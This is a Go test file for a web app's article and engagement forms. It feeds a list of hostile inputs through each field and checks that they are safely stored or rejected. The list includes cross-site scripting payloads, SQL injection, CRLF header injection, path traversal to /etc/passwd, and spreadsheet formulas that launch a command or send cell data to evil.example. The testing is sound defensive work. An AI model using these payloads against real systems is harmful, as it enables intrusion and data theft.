package handlers

import (
	"encoding/json"
	"maps"
	"net/http"
	"net/http/httptest"
	"net/url"
	"reflect"
	"slices"
	"strings"
	"testing"

	"github.com/PuerkitoBio/goquery"

	"entente/internal/coop"
)

// hostile are texts that have broken programs of this kind. All may be stored.
var hostile = []string{
	`</script><script>alert(1)</script>`,
	`</textarea></title><!--<script>alert(1)`,
	`<img src=x onerror=alert(1)>`,
	`"><svg/onload=alert(1)>`,
	`" autofocus onfocus=alert(1) x="`,
	`javascript:alert(1)`,
	`&lt;b&gt; &amp;amp; &#x3C;`,
	`__f__alert(1)__f__`,
	`{{ .Title }} ${x} %s %n {@html x}`,
	`'; DROP TABLE articles; --`,
	`" OR ""=" NEAR( * ^ title:`,
	`=1+1`, `'=1+1`, `''=1+1`, `+1+1`, `-2+3`, `@SUM(A1)`,
	`=cmd|' /C calc'!A0`,
	`=HYPERLINK("http://evil.example/?"&A1,"open")`,
	"\t=1+1", " =1+1", "\u00a0=1+1", "\ufeff=1+1", "\n=1+1", "\r=1+1", `"=1+1`, `“=1+1`,
	"a;=1+1;b", "a\t=1+1\tb", "a,=1+1,b", "a\r\n=1+1\r\nb", "a\n=1+1", "a\r=1+1",
	"a\r\nSet-Cookie: evil=1\r\n\r\n<b>", "%0d%0aSet-Cookie:%20evil=1",
	`"quoted", with; separators`, `\.`, `\`, `'`, `"`, `""`, `,`, `;a`,
	"\ufeffbegins with a byte order mark", "ends with one\ufeff", "zero\u200bwidth\u200d",
	"a\u2028b\u2029c\u0085d", "a\vb\fc", "bell\x07 and \x1b[31mcolour\x7f",
	"\u202eevil\u202c \u2066isolated\u2069", "كمبوديا والولايات المتحدة",
	`កម្ពុជា និង​សហរដ្ឋ​អាមេរិក`, `日本とカンボジア 🇯🇵🇰🇭 👩‍✈️`,
	"e" + strings.Repeat("\u0301\u0316", 400),
	"\uffff \ufdd0 \U0010ffff",
	"../../etc/passwd", "C:\\con", "null", "undefined", "NaN", "[object Object]",
}

// unreadable are no texts, so each field refuses them.
var unreadable = []string{"\xff", "a\xed\xa0\x80b", "\xc0\xaf", "\xf4\x90\x80\x80", "\xe1\x9e", "a\x00b"}

// fieldsOf are the names of the fields of a form, from its tags.
func fieldsOf(form any) []string {
	var out []string
	for i := range reflect.TypeOf(form).NumField() {
		out = append(out, reflect.TypeOf(form).Field(i).Tag.Get("form"))
	}
	return out
}

// entryForm is one of the two forms, sent and read back as a browser would.
type entryForm struct {
	names  []string
	base   url.Values // what can be saved
	send   func(url.Values) *httptest.ResponseRecorder
	stored func() []*goquery.Selection // the edit forms that show what was saved
}

func (s site) edits(t *testing.T, address string) *goquery.Selection {
	t.Helper()
	return s.page(t, address+"/edit").Find("main form").First()
}

// articleEntry is the form that makes an article and its engagement.
func (s site) articleEntry(t *testing.T) entryForm {
	var created string
	return entryForm{
		names: fieldsOf(coop.ArticleForm{}),
		base: article("A title", "engagement", "new", "form", "visit", "stage", "done",
			"areas", "training", "areas", "demining", "parties", "KH, US"),
		send: func(form url.Values) *httptest.ResponseRecorder {
			w := s.post(t, "/articles", form)
			created = w.Header().Get("Location")
			return w
		},
		stored: func() []*goquery.Selection {
			forms := []*goquery.Selection{s.edits(t, created)}
			s.page(t, created).Find("main a[href^='/engagements/']").First().Each(func(_ int, a *goquery.Selection) {
				forms = append(forms, s.edits(t, a.AttrOr("href", "")))
			})
			return forms
		},
	}
}

// engagementEntry is the form of a stored engagement.
func (s site) engagementEntry(t *testing.T, address string) entryForm {
	t.Helper()
	base := formValues(s.edits(t, address))
	base.Del("version") // the newest one is sent
	return entryForm{
		names: fieldsOf(coop.EngagementForm{}),
		base:  base,
		send: func(form url.Values) *httptest.ResponseRecorder {
			if !form.Has("version") {
				form.Set("version", formValues(s.edits(t, address)).Get("version"))
			}
			return s.post(t, address, form)
		},
		stored: func() []*goquery.Selection { return []*goquery.Selection{s.edits(t, address)} },
	}
}

// eachText calls fn with each field for text of some forms.
func eachText(forms []*goquery.Selection, fn func(name, value string, long bool)) {
	for _, form := range forms {
		form.Find("input[type=text], input:not([type]), textarea").Each(func(_ int, f *goquery.Selection) {
			if goquery.NodeName(f) == "textarea" {
				fn(f.AttrOr("name", ""), f.Text(), true)
			} else {
				fn(f.AttrOr("name", ""), f.AttrOr("value", ""), false)
			}
		})
	}
}

// isStored tells whether a field shows a text by the rules of its kind: one line
// is trimmed and has spaces for line breaks, a longer text is as given but for
// the kind of its line breaks.
func isStored(forms []*goquery.Selection, text string) (found bool) {
	eachText(forms, func(_, value string, long bool) {
		found = found || !long && value == coop.Line(text) || long && value == coop.Text(text)
	})
	return found
}

// TestEveryFieldTakesAnyTextOrSaysWhatWouldBeRight sends hostile text through
// each field of both forms, alone: it is stored unchanged, or comes back as typed.
func TestEveryFieldTakesAnyTextOrSaysWhatWouldBeRight(t *testing.T) {
	s := newSite(t)
	s.create(t, article("A title", "engagement", "new"))
	for _, entry := range []entryForm{s.articleEntry(t), s.engagementEntry(t, "/engagements/1")} {
		free := 0
		for i, name := range entry.names {
			texts := []string{"plain", unreadable[i%len(unreadable)], unreadable[(i+1)%len(unreadable)]}
			for j := range 4 { // all of them in turn
				texts = append(texts, hostile[(4*i+j)%len(hostile)])
			}
			for _, text := range texts {
				form := maps.Clone(entry.base)
				form[name] = []string{text}
				switch w := entry.send(form); w.Code {
				case http.StatusSeeOther:
					switch {
					case name == "excluded": // any value will do
					case slices.Contains([]string{"suggested", "accept", "refused"}, name): // what is no suggestion is passed over
					case slices.Contains(unreadable, text):
						t.Errorf("%s = %q was saved", name, text)
					case !isStored(entry.stored(), text):
						t.Errorf("%s = %q was saved as something else", name, text)
					default:
						free++
					}
				case http.StatusUnprocessableEntity:
					page := document(t, w)
					if page.Find("#"+name+"-error").Length() == 0 && name != "version" && name != "codebook" {
						t.Errorf("%s = %q: nothing beside the field says what would be right", name, text)
					}
					eachText([]*goquery.Selection{page.Find("main form")}, func(at, value string, _ bool) {
						if at == name && name != "codebook" && value != asParsed(text) { // the codebook is the one that the page offers
							t.Errorf("%s = %q came back as %q", name, text, value)
						}
					})
					onlyOurMarkup(t, name, page)
				default:
					t.Errorf("%s = %q: status %d, want it saved or told what would be right", name, text, w.Code)
				}
			}
		}
		if want := 4 * 5; free < want { // four fields for any text, and five texts each
			t.Errorf("%d texts were stored and read back, want %d at least", free, want)
		}
	}
}

// asParsed is a text as an HTML parser gives it back.
func asParsed(text string) string {
	return strings.NewReplacer("\r\n", "\n", "\r", "\n", "\x00", "\ufffd").Replace(text)
}

// onlyOurMarkup finds what hostile text could have made of a page.
func onlyOurMarkup(t *testing.T, address string, page *goquery.Document) {
	t.Helper()
	page.Find("script").Each(func(_ int, e *goquery.Selection) {
		kind := e.AttrOr("type", "")
		if src, hasSource := e.Attr("src"); hasSource {
			if !strings.HasPrefix(src, "/assets/") {
				t.Errorf("%s: a script from %s", address, src)
			}
			return
		}
		if kind != "application/json" || !json.Valid([]byte(e.Text())) {
			t.Errorf("%s: a script of type %q that is no data: %.80s", address, kind, e.Text())
		}
	})
	if n := page.Find("img, iframe, object, embed, base, meta[http-equiv], [onerror], [onload], [onclick], [onfocus], input[autofocus], [style], [srcdoc]").Length(); n > 0 {
		t.Errorf("%s: %d elements that no page of ours has", address, n)
	}
	page.Find("[href], [src], [action], [formaction]").Each(func(_ int, e *goquery.Selection) {
		for _, name := range []string{"href", "src", "action", "formaction"} {
			if link, ok := e.Attr(name); ok && strings.HasPrefix(strings.ToLower(strings.TrimSpace(link)), "javascript:") {
				t.Errorf("%s: %s=%q", address, name, link)
			}
		}
	})
}
